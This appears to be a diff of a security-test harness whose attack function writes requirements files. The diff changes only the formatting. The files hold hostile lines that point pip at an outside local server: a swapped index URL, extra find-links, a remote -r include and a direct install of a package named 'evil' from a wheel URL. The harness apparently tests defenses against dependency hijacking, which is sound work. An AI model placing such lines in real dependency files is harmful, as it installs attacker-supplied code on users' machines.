@@ -15,7 +15,12 @@ from participant_kit.execution.errors import ExecutionError
 
 def attack(world: World, folder: Path) -> None:
     address = f"http://127.0.0.1:{world.outside['tcp']}"
-    lines = (f"--index-url {address}\nevil==1", f"--find-links {address}\nevil==1", f"-r {address}/x.txt", f"evil @ {address}/evil.whl")
+    lines = (
+        f"--index-url {address}\nevil==1",
+        f"--find-links {address}\nevil==1",
+        f"-r {address}/x.txt",
+        f"evil @ {address}/evil.whl",
+    )
     for number, line in enumerate(lines):
         requirements = folder / f"requirements-{number}.txt"
         requirements.write_text(line + "\n")
